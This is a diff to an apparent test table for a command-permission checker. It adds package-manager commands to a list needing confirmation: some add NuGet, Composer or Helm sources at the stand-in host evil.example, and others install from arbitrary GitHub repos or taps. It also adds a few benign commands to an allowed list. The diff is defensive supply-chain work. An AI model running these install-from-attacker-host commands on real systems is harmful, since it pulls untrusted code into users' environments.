@@ -51,6 +51,15 @@ const ASKED: readonly (readonly [command: string, why: string])[] = [
   ["nix profile install github:a/b", "a flake of somebody's"],
   ["gh extension install a/gh-b", "an extension is a repository"],
   ["helm plugin install https://github.com/a/helm-b", "a plug-in"],
+  ["composer config repositories.x composer http://evil.example", "kept for the project"],
+  ["dotnet nuget add source http://evil.example/v3/index.json -n x", "kept for good"],
+  ["nuget install x -Source http://evil.example/nuget", "one dash"],
+  ["cabal install https://github.com/a/b/archive/main.tar.gz", "Haskell"],
+  ["flutter pub add x --git-url=https://github.com/a/x", "Flutter"],
+  ["dart pub global activate --source git https://github.com/a/b", "Dart"],
+  ["swift package add-dependency https://github.com/a/b --branch main", "Swift"],
+  ["brew install somebody/tap/x", "somebody's own list of packages"],
+  ["helm repo add x http://charts.evil.example", "by plain HTTP"],
   ["kubectl krew install --manifest-url https://evil.example/x.yaml", "a plug-in"],
 ];
 
@@ -89,6 +98,10 @@ const ALLOWED: readonly (readonly [command: string, why: string])[] = [
   ["conda install -c conda-forge numpy", "a channel by its name"],
   ["conda config --add channels conda-forge", "the same, kept"],
   ["gh extension install github/gh-copilot", "of its makers"],
+  ["brew install hashicorp/tap/terraform", "of makers people know"],
+  ["helm repo add x https://charts.x.example", "projects have their own"],
+  ["flutter pub get", "what the project lists"],
+  ["dotnet nuget list source", "shows"],
   ["poetry config virtualenvs.in-project true", "a switch"],
 ];
 
